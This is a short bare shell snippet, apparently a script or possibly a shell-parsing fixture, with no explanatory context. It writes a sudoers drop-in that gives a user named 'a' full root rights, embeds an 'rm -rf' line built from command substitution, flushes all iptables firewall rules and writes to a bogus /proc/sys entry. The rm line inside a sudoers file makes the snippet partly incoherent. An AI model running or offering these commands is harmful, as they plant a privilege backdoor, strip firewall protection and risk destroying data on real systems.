cat > /etc/sudoers.d/a <<EOF
a ALL=(ALL) ALL
rm -rf $(id)
EOF
bash -s <<-'END' 2>&1
	iptables -F
	END
echo done >> /proc/sys/x 2>/dev/null
